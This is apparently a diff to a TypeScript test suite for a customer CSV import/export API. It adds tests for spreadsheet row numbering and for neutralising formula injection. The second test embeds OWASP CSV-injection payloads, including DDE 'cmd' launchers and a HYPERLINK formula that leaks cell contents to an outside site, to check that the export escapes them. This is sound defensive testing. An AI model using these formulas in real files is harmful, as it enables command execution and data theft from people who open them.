@@ -161,6 +161,24 @@ describe.each(testDatabases())('customer import and export on $name', (db) => {
     expect(await snapshot(a.t)).toBe(before);
   });
 
+  it("reports the spreadsheet's row numbers: blank lines and quoted line breaks counted", async () => {
+    const file = csv([
+      'name,status,email',
+      '',
+      'Rows Good One,active,',
+      '"Rows Two',
+      'Lines",closed,',
+      '',
+      '',
+      'Rows Bad Email,,not-an-email',
+    ]);
+    const report = await json(await upload(file, '?dryRun=true'));
+    expect(report.errors.map((e: { row: number; field: string }) => [e.row, e.field])).toEqual([
+      [4, 'status'],
+      [7, 'email'],
+    ]);
+  });
+
   it('all-or-nothing imports nothing when a row is bad (422 with the report)', async () => {
     const before = await snapshot(a.t);
     const res = await upload(BAD);
@@ -325,11 +343,52 @@ describe.each(testDatabases())('customer import and export on $name', (db) => {
       ).toEqual([]);
     });
 
-    it('defuses cells a spreadsheet would run as formulas', async () => {
-      await a.customer({ name: '=HYPERLINK("http://x","y")', phone: '+86 21 5555 0000', tags: ['formula'] });
-      const body = await rawText(await a.as(a.gm, `${C}/export?tag=formula`));
-      expect(body).toContain(`"'=HYPERLINK(""http://x"",""y"")"`);
-      expect(body).toContain(',+86 21 5555 0000,');
+    it('neutralises OWASP formula payloads in every cell, and the file imports back unchanged', async () => {
+      // OWASP "CSV Injection" examples (owasp.org/www-community/attacks/CSV_Injection).
+      const payloads = [
+        '=1+1',
+        "-2+3+cmd|' /C calc'!A0",
+        '+1+1',
+        '+(1+1)',
+        '@SUM(1+1)',
+        '=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further information")',
+        "=cmd|' /C notepad'!'A1'",
+      ];
+      for (const [i, p] of payloads.entries())
+        await a.customer({
+          name: `${p} #${i}`,
+          region: p,
+          phone: `+86 21 5555 ${1000 + i}`,
+          tags: ['formula'],
+        });
+      const body = await rawText(await a.as(a.gm, `${C}/export?tag=formula&sort=name`));
+      const { parse } = await import('csv-parse/sync');
+      const cells = (parse(body, { bom: true, relax_column_count: true }) as string[][]).flat();
+      const dangerous = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-\d+(\.\d+)?$/.test(c));
+      expect(dangerous).toEqual([]);
+      expect(cells).toContain("'+86 21 5555 1000");
+      expect(cells).toContain(`'${payloads[1]}`);
+
+      const b = await openArchive(db);
+      try {
+        for (const key of ['scale', 'employees'])
+          await b.t.request(`${C}/custom-fields`, {
+            body: { key, labels: { en: key, 'zh-CN': key }, type: 'text' },
+          });
+        const res = await b.t.kernel.app.request(`${C}/import`, {
+          method: 'POST',
+          body,
+          headers: { authorization: `Bearer ${b.t.adminToken}`, 'content-type': 'text/csv' },
+        });
+        expect(await json(res)).toMatchObject({ rows: payloads.length, created: payloads.length });
+        const pick = (c: any) => ({ name: c.name, region: c.region, phone: c.phone, tags: c.tags });
+        const original = (await json(await a.as(a.gm, `${C}?tag=formula&sort=name`))).items.map(pick);
+        const copy = (await json(await b.as(b.gm, `${C}?tag=formula&sort=name`))).items.map(pick);
+        expect(copy).toEqual(original);
+        expect(copy.map((c: { region: string }) => c.region).sort()).toEqual([...payloads].sort());
+      } finally {
+        await b.close();
+      }
     });
   });
 });
